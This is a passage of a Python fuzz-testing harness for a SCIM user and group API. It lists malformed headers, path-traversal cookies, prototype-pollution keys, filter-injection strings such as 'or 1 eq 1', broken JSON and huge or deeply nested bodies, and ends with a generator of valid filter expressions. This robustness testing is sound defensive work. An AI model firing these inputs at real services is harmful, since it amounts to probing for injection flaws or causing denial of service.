            ("traceparent", "garbage"),
            ("Accept", "application/xml"),
            ("Accept", "text/html;q=1, */*;q=0"),
            ("Accept-Charset", "latin1"),
            ("Accept-Encoding", "gzip, br, zstd, evil"),
            ("Content-Encoding", "gzip"),
            ("Expect", "100-continue"),
            ("If-Match", 'W/"garbage"'),
            ("If-None-Match", "*"),
            ("Origin", "https://evil.example"),
            ("Cookie", "session=../../users"),
            ("Content-Length", "99999999999999999999"),
            ("Content-Length", "-1"),
            ("Content-Length", "abc"),
            ("Content-Length", "0"),
            ("Transfer-Encoding", "chunked"),
            ("User-Agent", "\x00\x01"),
        ]


RAW_ONLY_HEADERS = {"content-length", "transfer-encoding", "host"}
"""Headers httpx would rewrite or refuse; requests carrying them are sent as raw ASGI."""

EXTRA_KEYS = [
    "schemas",
    "id",
    "externalId",
    "meta",
    "userName",
    "name",
    "displayName",
    "active",
    "password",
    "emails",
    "groups",
    "members",
    "value",
    "$ref",
    "type",
    "primary",
    "Operations",
    "op",
    "path",
    "givenName",
    "familyName",
    ENTERPRISE,
    f"{USER_SCHEMA}:userName",
    "urn:evil:ext",
    "__proto__",
    "constructor",
    "",
    "\x00",
    "a" * 1000,
    'emails[type eq "work"].value',
    'members[value eq "x"]',
    "name.givenName",
    "members.value",
]

WRONG_SCALARS: list[Any] = [
    None,
    True,
    False,
    0,
    -1,
    2**53,
    2**63 - 1,
    -(2**63),
    1.5,
    -0.0,
    1e308,
    "",
    " ",
    "x",
    "\x00",
    "true",
    "false",
    "null",
    "True",
    "1",
    "[]",
]

PATCH_OPS: list[Any] = [
    "add",
    "remove",
    "replace",
    "Add",
    "Replace",
    "REMOVE",
    "move",
    "copy",
    "test",
    "delete",
    "",
    " add",
    None,
    1,
    True,
    ["add"],
    {"op": "add"},
]

PATCH_PATHS: list[Any] = [
    None,
    None,
    "",
    " ",
    "userName",
    "active",
    "name",
    "name.givenName",
    "name.familyName",
    "emails",
    'emails[type eq "work"].value',
    'emails[type eq "work"',
    'emails[value eq "x"].primary',
    'emails[type eq "work"].value.extra',
    'emails[type eq "work" or 1 eq 1].value',
    "displayName",
    "id",
    "meta",
    "meta.created",
    "groups",
    "password",
    "members",
    "members",
    'members[value eq "{id}"]',
    'members[value eq "{id}" or value eq "{id2}"]',
    'members[value eq "{id2}"]',
    "members[value pr]",
    'members[display eq "x"]',
    'members[value eq "x"].display',
    'members[value ne "x"]',
    'members[not (value eq "x")]',
    "members.value",
    "members[",
    f"{USER_SCHEMA}:active",
    f"{GROUP_SCHEMA}:members",
    f"{GROUP_SCHEMA}:displayName",
    f"{ENTERPRISE}:employeeNumber",
    "urn:evil:thing",
    "x" * 5000,
    "]]]",
    "[",
    ".",
    "..",
    "../users",
    "a.b.c.d.e",
    'name[givenName eq "x"]',
    "externalId",
    "title",
    1,
    [],
    {},
    True,
]

PATCH_VALUE_KEYS = [
    "active",
    "displayName",
    "id",
    "members",
    "name.givenName",
    "userName",
    'emails[type eq "work"].value',
    'members[value eq "{id}"]',
    "members.value",
    f"{USER_SCHEMA}:name.familyName",
    f"{GROUP_SCHEMA}:displayName",
    "meta",
    "password",
    "emails",
    "urn:evil:x",
]

MALFORMED: list[bytes] = [
    b"",
    b" ",
    b"{",
    b"}",
    b"[",
    b"[]",
    b"null",
    b"1",
    b'"x"',
    b"true",
    b'{"a":}',
    b"{'a': 1}",
    b'{"a": 1,}',
    b"\xef\xbb\xbf{}",
    b'{"a": NaN}',
    b'{"a": Infinity}',
    b'{"a": 1} {"b": 2}',
    b'{"a": 1}garbage',
    b'{"userName": "\\ud800@example.com"}',
    b'{"userName": "a\\u0000@example.com", "emails": [{"value": "a\\u0000@example.com"}]}',
    b"/* c */ {}",
    b'{"a" 1}',
    b"\x00",
    b'{"schemas": ["' + USER_SCHEMA.encode() + b'"], "userName": "\xff\xfe@x.com"}',
    b'{"userName": "\xc0\xaf@x.com"}',
    b"\xff\xff\xff",
    b'{"a": 1e999}',
    b'{"a": -}',
    b'{"a": 0x10}',
    b'{"a": 01}',
    b'{"a": "\t"}',
    b'{"a": "\\x41"}',
    b'{"userName": "x@y.z"',
    '{"userName": "jos\u00e9@example.com"}'.encode("latin-1"),
    '{"userName": "utf16@example.com"}'.encode("utf-16"),
    b'{"Operations": [{"op": "add", "path": "members", "value": [{"value": "x"}]}',
    b'{"displayName": "x", "displayName": "y", "members": [], "members": null}',
    b'{"userName": 1' + b"0" * 400 + b"}",
]


def _nested(depth: int, leaf: bytes = b"1", *, obj: bool = False) -> bytes:
    if obj:
        return b'{"a":' * depth + leaf + b"}" * depth
    return b"[" * depth + leaf + b"]" * depth


def _heavy_bodies() -> list[bytes]:
    """Bodies too costly to build per request: deep, huge, long, over the size limit."""
    user = f'{{"schemas":["{USER_SCHEMA}"],"userName":"deep@example.com",'.encode()
    big = "A" * 100_000
    huge_strings: list[dict[str, Any]] = [
        {"schemas": [USER_SCHEMA], "userName": big + "@example.com"},
        {"schemas": [USER_SCHEMA], "userName": "big@example.com", "name": {"givenName": big}},
        {"schemas": [USER_SCHEMA], "userName": "big@example.com", "password": big},
        {"schemas": [USER_SCHEMA], "userName": "big@example.com", "displayName": big},
        {"schemas": [USER_SCHEMA], "userName": "big@example.com", "externalId": big},
        {"schemas": [GROUP_SCHEMA], "displayName": big},
        {"schemas": [GROUP_SCHEMA], "displayName": "g", "members": [{"value": big}]},
        {"schemas": [PATCH_OP_SCHEMA], "Operations": [{"op": "replace", "path": big, "value": 1}]},
        {
            "schemas": [PATCH_OP_SCHEMA],
            "Operations": [{"op": "replace", "path": "displayName", "value": big}],
        },
        {
            "schemas": [PATCH_OP_SCHEMA],
            "Operations": [{"op": "add", "path": "members", "value": [{"value": big}]}],
        },
        {big: big},
    ]
    huge_arrays: list[dict[str, Any]] = [
        {
            "schemas": [USER_SCHEMA],
            "userName": "many@example.com",
            "emails": [{"value": f"e{i}@example.com"} for i in range(10_000)],
        },
        {"schemas": [USER_SCHEMA] * 10_000, "userName": "many@example.com"},
        {"schemas": [GROUP_SCHEMA], "displayName": "many", "members": [{"value": "../x"}] * 5_000},
        {
            "schemas": [GROUP_SCHEMA],
            "displayName": "many",
            "members": [{"value": f"nosuchuser{i:05d}"} for i in range(200)],
        },
        {"schemas": [GROUP_SCHEMA], "displayName": "many", "members": list(range(5_000))},
        {
            "schemas": [PATCH_OP_SCHEMA],
            "Operations": [{"op": "replace", "path": "active", "value": True}] * 3_000,
        },
        {
            "schemas": [PATCH_OP_SCHEMA],
            "Operations": [
                {
                    "op": "add",
                    "path": "members",
                    "value": [{"value": f"x{i}"} for i in range(1_000)],
                }
            ],
        },
        {
            "schemas": [PATCH_OP_SCHEMA],
            "Operations": [
                {"op": "remove", "path": f'members[value eq "x{i}"]'} for i in range(500)
            ],
        },
        {"schemas": [USER_SCHEMA], "userName": "many@example.com", "groups": [{}] * 10_000},
    ]
    return [
        _nested(5_000),
        _nested(5_000, obj=True),
        _nested(1_030),
        user + b'"name":' + _nested(1_000, b'"x"') + b"}",
        user + b'"name":{"givenName":' + _nested(1_000, b'"x"', obj=True) + b"}}",
        b'{"schemas":["' + PATCH_OP_SCHEMA.encode() + b'"],"Operations":[{"op":"add",'
        b'"path":"members","value":' + _nested(1_000, b'{"value":"x"}') + b"}]}",
        b'{"schemas":["' + PATCH_OP_SCHEMA.encode() + b'"],"Operations":[{"op":"replace",'
        b'"value":' + _nested(1_000, b"1", obj=True) + b"}]}",
        b'{"schemas":["'
        + GROUP_SCHEMA.encode()
        + b'"],"displayName":"deep","members":'
        + _nested(1_000, b'{"value":"x"}')
        + b"}",
        *(orjson.dumps(body) for body in huge_strings),
        *(orjson.dumps(body) for body in huge_arrays),
        b'{"userName": "' + b"x" * 1_200_000 + b'@example.com"}',
        b" " * 1_100_000 + b"{}",
    ]


# -- a filter grammar ------------------------------------------------------------------

FILTER_ATTRIBUTES = [
    "id",
    "userName",
    "displayName",
    "active",
    "name.givenName",
    "name.familyName",
    "emails.value",
    "emails.type",
    "meta.created",
    "meta.lastModified",
    "groups.value",
]
COMPARE_OPS = ["eq", "ne", "co", "sw", "ew", "gt", "ge", "lt", "le"]


def _value(rng: random.Random) -> str:
    return rng.choice(
        [
            '"x"',
            '"fuzz.1@example.com"',
            "true",
            "false",
            "null",
            "1",
            '"2020-01-01T00:00:00Z"',
            '"\\""',
            '"a b"',
        ]
    )


def grammar_filter(rng: random.Random, depth: int = 3) -> str:
    """A well-formed filter over the Users attributes (from a small grammar)."""
    roll = rng.random()
    if depth <= 0 or roll < 0.35:
        attribute = rng.choice(FILTER_ATTRIBUTES)
        if rng.random() < 0.15:
            return f"{attribute} pr"
        return f"{attribute} {rng.choice(COMPARE_OPS)} {_value(rng)}"
    if roll < 0.55:
        joiner = rng.choice(["and", "or", "AND", "Or"])
        return f"{grammar_filter(rng, depth - 1)} {joiner} {grammar_filter(rng, depth - 1)}"
    if roll < 0.7:
        return f"not ({grammar_filter(rng, depth - 1)})"
    if roll < 0.85:
        return f"({grammar_filter(rng, depth - 1)})"
    return f'emails[type eq "work" and value {rng.choice(COMPARE_OPS)} {_value(rng)}]'
